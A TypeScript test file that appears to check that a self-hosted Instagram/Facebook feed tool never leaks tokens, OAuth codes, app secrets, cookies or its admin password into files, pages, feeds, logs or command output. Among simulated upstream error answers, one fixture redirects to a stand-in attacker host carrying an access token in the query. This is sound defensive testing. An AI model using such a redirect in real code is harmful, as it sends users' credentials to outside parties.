import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import BetterSqlite3 from "better-sqlite3";
import { expect, it, vi } from "vitest";
import type { Answer } from "../../demo/sandbox/answer.ts";
import type { Endpoint } from "../../demo/sandbox/requests.ts";
import { type ScenarioName, scenarioNames } from "../../demo/sandbox/scenarios/scenarios.ts";
import { FACEBOOK_APP, INSTAGRAM_APP } from "../../demo/sandbox/world.ts";
import { freePort } from "../support/free-port.ts";
import { createOwner, type Owner } from "../support/owner.ts";
import { createSecretSearch } from "../support/secret-search.ts";
import { type SocketSandbox, startSocketSandbox } from "../support/socket-sandbox.ts";
import { tempFolder } from "../support/temp-folder.ts";
import {
  type ProcessEnvironment,
  type RunningProcess,
  runWindowbox,
  startWindowbox,
} from "../support/windowbox-process.ts";

vi.setConfig({ testTimeout: 400_000 });

const PASSWORD = "harbour-tides-at-noon-and-night";
const DAY_MS = 86_400_000;
const APIS = ["instagram-login", "facebook-login", "basic-display"] as const;

/** Everything that anyone outside could read, with a name for where it was read. */
type Seen = { readonly where: string; readonly bytes: Uint8Array | string }[];

interface Place {
  readonly sandbox: SocketSandbox;
  readonly dataDir: string;
  readonly environment: ProcessEnvironment;
  readonly seen: Seen;
  run(args: readonly string[], input?: string, change?: ProcessEnvironment): Promise<void>;
}

it("shows no token, code, secret or password in any file, page, feed, log line or output of a full run", async () => {
  const place = await startPlace();
  const { sandbox, dataDir, environment, seen } = place;
  const server = await startWindowbox(environment);
  const { owner, secrets } = recordingOwner(server, seen);

  await connectInEveryWay(owner, place);
  await syncAndRefresh(owner, place);
  await failInEveryWay(owner, place);
  await failToReachInstagram(place);
  await lookAtEverything(server, owner, place);
  seen.push(...filesBelow(dataDir, "while it runs"));
  expect(await server.end("SIGTERM")).toMatchObject({ code: 0 });
  seen.push(...filesBelow(dataDir, "after it stopped"));
  // Started again, it refreshes and syncs by itself.
  makeTokensOld(place);
  const again = await startWindowbox(environment);
  await vi.waitUntil(() => again.output.stdout.includes("token refreshed"), { timeout: 30_000 });
  await again.end("SIGTERM");
  seen.push(
    ...filesBelow(dataDir, "after the second stop"),
    ...outputOf(server),
    ...outputOf(again),
  );

  const key = readFileSync(join(dataDir, "secret.key"), "utf8").trim();
  const codes = sandbox.control
    .requestsTo("exchange-code")
    .flatMap(({ params }) => params.code ?? []);
  secrets.push(INSTAGRAM_APP.secret, FACEBOOK_APP.secret, PASSWORD, key);
  const search = createSecretSearch([...sandbox.tokens, ...codes, ...secrets]);
  for (const { where, bytes } of seen) expect(search.find(bytes), where).toBeUndefined();

  const kinds = ["IGAA", "EAA", "IGQV"].map(
    (prefix) => sandbox.tokens.filter((token) => token.startsWith(prefix)).length,
  );
  expect(Math.min(...kinds)).toBeGreaterThan(0);
  const carrying = sandbox.control.requests.filter(({ host, token }) => host === "cdn" && token);
  expect(carrying).toEqual([]);
  console.log(
    `${sandbox.tokens.length} tokens (${kinds.join(", ")} by kind), ${codes.length} codes and ${secrets.length} other secrets looked for in ${seen.length} places, ${search.pieces} pieces`,
  );
});

it("would find a secret in whichever form it had come out", () => {
  const token = `IGAA${"kx7Qm2Zp9Lr4".repeat(6)}`;
  const search = createSecretSearch([token]);
  const leaks = [
    token,
    token.slice(20, 40),
    Buffer.from(`{"a":"${token}"}`).toString("base64"),
    Buffer.from(`x ${token}`).toString("base64url"),
    Buffer.from(token).toString("hex"),
  ];
  for (const leak of leaks) expect(search.find(`before ${leak} after`)).toContain("after");
  expect(search.find("nothing to see in this-line_of.plain/text")).toBeUndefined();
});

async function startPlace(): Promise<Place> {
  const sandbox = await startSocketSandbox({
    accounts: [
      { username: "harbour.bakery", posts: 3, page: "Harbour Bakery" },
      { username: "atelier.kiln", posts: 2, page: "Atelier Kiln" },
      { username: "quiet.quay", posts: 1 },
      { username: "marta.lind", posts: 1, accountType: "PERSONAL" },
    ],
  });
  const dataDir = join(tempFolder(), "data");
  // The Meta app is entered in the dashboard.
  const { FACEBOOK_APP_ID: _id, FACEBOOK_APP_SECRET: _secret, ...known } = sandbox.environment;
  const environment = {
    ...known,
    DATA_DIR: dataDir,
    PORT: String(await freePort()),
    ADMIN_PASSWORD: PASSWORD,
    LOG_LEVEL: "trace",
  };
  const seen: Seen = [];
  return {
    sandbox,
    dataDir,
    environment,
    seen,
    async run(args, input = "", change = {}) {
      const result = await runWindowbox(args, { ...environment, ...change }, { input });
      const where = `windowbox ${args.join(" ")}`;
      seen.push({ where, bytes: `${result.stdout}\n${result.stderr}` });
    },
  };
}

async function connectInEveryWay(owner: Owner, { sandbox, run }: Place): Promise<void> {
  await owner.get("/admin/login");
  await owner.signIn("harbour-tides-at-nine-in-june");
  await owner.signIn(PASSWORD);
  await owner.post("/admin/apps/facebook", { ...FACEBOOK_APP, api: "facebook-login" });

  expect((await owner.connect(sandbox, "harbour.bakery")).status).toBe(303);
  await owner.get("/admin");
  await owner.connect(sandbox, "quiet.quay", { deny: true });
  await owner.get("/admin");
  await owner.connect(sandbox, "marta.lind", { api: "basic-display" });
  await owner.get("/admin");
  // Two Pages: the tokens wait in the database until the owner has picked.
  const chosen = await owner.connect(sandbox, "harbour.bakery", { api: "facebook-login" });
  expect(chosen.headers.get("location")).toBe("/admin/connect/choose");
  await owner.get("/admin/connect/choose");
  await owner.post("/admin/connect/choose", {
    pick: sandbox.control.account("atelier.kiln").professionalId,
  });
  await owner.connect(sandbox, "harbour.bakery", { api: "facebook-login" });

  await owner.post("/admin/connect/token", { token: sandbox.issueToken("quiet.quay") });
  await owner.get("/admin");
  for (const api of APIS) {
    // Whatever is wrong with it: it is somebody's token.
    const token = sandbox.issueToken("harbour.bakery", { api, ageMs: 61 * DAY_MS });
    for (const wanted of ["", ...APIS]) {
      await owner.post("/admin/connect/token", { token, api: wanted });
      await owner.get("/admin/connect");
    }
    await run(["connect", "--token", "-", "--api", api], token);
  }
  await run(["connect", "--token", "-"], sandbox.issueToken("quiet.quay", { ageMs: 9 * DAY_MS }));
}

async function syncAndRefresh(owner: Owner, place: Place): Promise<void> {
  makeTokensOld(place);
  await place.run(["refresh"]);
  makeTokensOld(place);
  for (const id of accountIds(place)) {
    await owner.post(`/admin/accounts/${id}/refresh`);
    await owner.post(`/admin/accounts/${id}/sync`);
    await owner.get("/admin");
  }
  await place.run(["sync"]);
}

/** Instagram's own words may hold the token that was sent. */
const ECHOES: readonly Answer[] = [
  ({ token }) => ({
    status: 400,
    json: { error: { message: `Malformed access token ${token}`, type: token, code: 190 } },
  }),
  ({ token }) => ({ status: 500, json: { error: { message: `${token}`, code: 1 } } }),
  ({ params }) => ({
    status: 400,
    json: { error_type: "OAuthException", code: 400, error_message: JSON.stringify(params) },
  }),
  ({ token, params }) => ({
    headers: { "content-type": "text/html" },
    body: `<html><a href="?access_token=${token}">${JSON.stringify(params)}</a></html>`,
  }),
  ({ token }) => ({ status: 302, headers: { location: `https://evil.example/?token=${token}` } }),
  ({ token }) => ({ body: `{"access_token": "${token}` }),
  ({ token }) => ({ json: { [`${token}`]: token, data: { [`${token}`]: [token] } } }),
];

async function failInEveryWay(owner: Owner, place: Place): Promise<void> {
  const { sandbox } = place;
  // These wait for real time to pass, are about megabytes, or make the sandbox's own server complain.
  const left = /^(never-|huge-json|truncated-by-reset)/;
  const names = (...groups: Parameters<typeof scenarioNames>[0][]): (ScenarioName | Answer)[] => [
    ...groups.flatMap(scenarioNames).filter((name) => !left.test(name)),
    ...ECHOES,
  ];
  const all = names("token", "limit", "request", "network", "tokenAnswer");
  const fail = async (endpoint: Endpoint, answer: ScenarioName | Answer, act: () => unknown) => {
    sandbox.control.answer(endpoint, answer, Number.POSITIVE_INFINITY);
    await act();
    await owner.get("/admin");
    sandbox.control.clearAnswers();
  };
  for (const answer of all) {
    await fail("exchange-code", answer, () => owner.connect(sandbox, "quiet.quay"));
    await fail("exchange-token", answer, () => owner.connect(sandbox, "quiet.quay"));
  }
  for (const answer of names("token", "limit", "network", "profile")) {
    const token = sandbox.issueToken("quiet.quay");
    await fail("profile", answer, () => owner.post("/admin/connect/token", { token }));
    // A fresh connection takes back what the last failure led to.
    await owner.post("/admin/connect/token", { token });
    const id = accountIds(place).at(-1);
    await fail("media", answer, () => owner.post(`/admin/accounts/${id}/sync`));
    makeTokensOld(place);
    await fail("refresh", answer, () => owner.post(`/admin/accounts/${id}/refresh`));
  }
}

/** Tokens travel in the query, and a failed connection's error may quote the address. */
async function failToReachInstagram({ sandbox, run }: Place): Promise<void> {
  const addresses = [
    `http://127.0.0.1:${await freePort()}`,
    "http://graph.invalid",
    sandbox.origin.replace("http:", "https:"),
  ];
  const token = sandbox.issueToken("quiet.quay");
  const facebookToken = sandbox.issueToken("harbour.bakery", { api: "facebook-login" });
  for (const address of addresses) {
    const change = { INSTAGRAM_GRAPH_URL: address, FACEBOOK_GRAPH_URL: address };
    await run(["connect", "--token", "-"], token, change);
    await run(["connect", "--token", "-", "--api", "facebook-login"], facebookToken, change);
    await run(["sync"], "", change);
    await run(["refresh"], "", change);
    await run(["doctor"], "", change);
  }
}

async function lookAtEverything(
  server: RunningProcess,
  owner: Owner,
  { sandbox, seen, run }: Place,
): Promise<void> {
  await owner.post("/admin/connect/token", { token: sandbox.issueToken("harbour.bakery") });
  for (const args of [["status"], ["status", "--json"], ["doctor"], ["doctor", "--json"]]) {
    await run(args);
  }
  for (const api of APIS) await owner.get(`/admin/connect?api=${api}`);
  const paths = [
    "/admin",
    "/admin/health",
    "/admin/progress",
    "/admin/connect",
    "/admin/connect/choose",
    "/privacy",
    "/healthz",
    "/readyz",
    "/widget.js",
    "/feeds/nothing.json",
  ];
  const feeds = ["harbour-bakery", "atelier-kiln", "quiet-quay", "marta-lind"];
  for (const path of [
    ...paths,
    ...feeds.flatMap((id) => [`/feeds/${id}.json`, `/feeds/${id}.js`]),
  ]) {
    const answer = await owner.get(path);
    const text = await answer.text();
    for (const [address] of text.matchAll(/http[^"\s]*\/media\/[0-9a-f]{32}\.\w+/g)) {
      const file = await fetch(address);
      expect(file.status, address).toBe(200);
      seen.push({ where: address, bytes: new Uint8Array(await file.arrayBuffer()) });
    }
  }
  expect(seen.filter(({ where }) => where.includes("/media/")).length).toBeGreaterThan(3);
  expect((await fetch(`${server.url}/feeds/harbour-bakery.json`)).status).toBe(200);
}

/** A browser whose every answer is kept, but for what is meant for it alone: its cookies and its states. */
function recordingOwner({ url }: RunningProcess, seen: Seen): { owner: Owner; secrets: string[] } {
  const secrets: string[] = [];
  const owner = createOwner(url, async (address, init) => {
    const answer = await fetch(address, init);
    const headers = new Headers(answer.headers);
    for (const cookie of headers.getSetCookie()) {
      const [, session] = /^[\w-]+=([\w-]{16,})/.exec(cookie) ?? [];
      if (session) secrets.push(session);
    }
    headers.delete("set-cookie");
    const [, state] = /[?&]state=([\w-]+)/.exec(headers.get("location") ?? "") ?? [];
    if (state) {
      secrets.push(state);
      headers.delete("location");
    }
    const lines = [...headers].map((pair) => pair.join(": ")).join("\n");
    const where = `${init?.method ?? "GET"} ${new URL(address).pathname}`;
    seen.push({ where, bytes: `${lines}\n\n${await answer.clone().text()}` });
    return answer;
  });
  return { owner, secrets };
}

function makeTokensOld({ dataDir, sandbox }: Place): void {
  sandbox.advance(1.1 * DAY_MS);
  const sqlite = new BetterSqlite3(join(dataDir, "windowbox.db"), { timeout: 10_000 });
  sqlite
    .prepare(
      "UPDATE tokens SET obtained_at = obtained_at - @by, refreshed_at = refreshed_at - @by, next_refresh_at = 0",
    )
    .run({ by: 8 * DAY_MS });
  sqlite.close();
}

function accountIds({ dataDir }: Place): string[] {
  const sqlite = new BetterSqlite3(join(dataDir, "windowbox.db"), { timeout: 10_000 });
  const ids = sqlite
    .prepare<[], string>("SELECT id FROM accounts ORDER BY profile ->> 'username' = 'quiet.quay'")
    .pluck()
    .all();
  sqlite.close();
  return ids;
}

/** The key is meant to lie in its file, and nowhere else. */
function filesBelow(folder: string, when: string): Seen {
  return readdirSync(folder, { recursive: true, encoding: "utf8" })
    .map((name) => ({ name, path: join(folder, name) }))
    .filter(({ name, path }) => name !== "secret.key" && statSync(path).isFile())
    .map(({ name, path }) => ({ where: `${name} ${when}`, bytes: readFileSync(path) }));
}

function outputOf({ output }: RunningProcess): Seen {
  return [
    { where: "the server's output", bytes: output.stdout },
    { where: "the server's errors", bytes: output.stderr },
  ];
}
